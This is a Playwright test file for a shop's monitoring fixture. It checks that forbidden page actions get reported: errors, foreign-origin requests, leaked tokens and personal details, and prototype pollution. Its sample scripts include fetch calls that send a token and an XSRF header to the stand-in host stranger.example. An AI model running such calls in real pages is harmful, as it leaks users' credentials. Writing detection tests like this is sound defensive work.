import { expect, test } from './support/shop.ts';
import { ADDRESS } from './support/shopper.ts';
import { createWatch } from './support/watch.ts';

const FOREIGN = 'https://stranger.example';
const PAGE = `<!doctype html><title>x</title><p>₹NaN</p><p>Sold by null</p><img alt="undefined" src="data:,"><p>[object Object]</p>`;

/** Forbidden actions of a page, and the problem that the fixture must report for each. */
const FAULTS: readonly (readonly [script: string, seen: RegExp])[] = [
  ['setTimeout(() => { throw new Error("loose end") })', /^uncaught: Error: loose end/],
  ['void Promise.reject(new Error("unhandled"))', /^uncaught: Error: unhandled/],
  ['console.error("odd")', /^console error: odd/],
  ['console.warn("odd")', /^console warning: odd/],
  [`fetch("${FOREIGN}/pixel")`, /^asked a foreign origin: https:\/\/stranger\.example\/pixel/],
  [`fetch("${FOREIGN}/", { headers: { token: "abc.def" } })`, /^sent token to https:\/\/stranger/],
  [`fetch("${FOREIGN}/", { headers: { "x-xsrf-token": "x" } })`, /^sent x-xsrf-token to/],
  ['fetch("/api/x", { headers: { token: "abc.def" } }); fetch("/api/y?token=abc.def")', /^leaked “abc\.def”: address /],
  [`fetch("/api/x?mail=${encodeURIComponent(ADDRESS.Email)}")`, /^leaked “lakshmi@/],
  [`console.log("${ADDRESS['Mobile number']}")`, /^leaked “9876543210”: console /],
  [`document.body.append(Object.assign(new Image(), { src: "${FOREIGN}/x" }))`, /^console error: policy: img-src/],
  ['Object.prototype.polluted = 1', /^prototype: polluted/],
];

test('S10 S15 S20: the watch fixture reports everything forbidden', async ({ browser, backend }) => {
  const context = await browser.newContext();
  const watch = createWatch(backend.url);
  await watch.follow(context);
  await context.route(/./, (route) => {
    const headers = {
      'Content-Type': 'text/html; charset=utf-8',
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Content-Security-Policy': "img-src 'self' data:",
    };
    return route.fulfill({ headers, body: route.request().isNavigationRequest() ? PAGE : '' });
  });
  const page = await context.newPage();
  await page.goto(`${backend.url}/`);
  for (const [script] of FAULTS) await page.evaluate(script);
  for (const [script, seen] of FAULTS)
    await expect.poll(() => watch.problems(context), script).toContainEqual(expect.stringMatching(seen));
  const problems = await watch.problems(context);
  for (const text of ['text: ₹NaN', 'text: Sold by null', 'alt="undefined"', 'text: [object Object]'])
    expect(problems).toContain(text);
  await context.close();
});
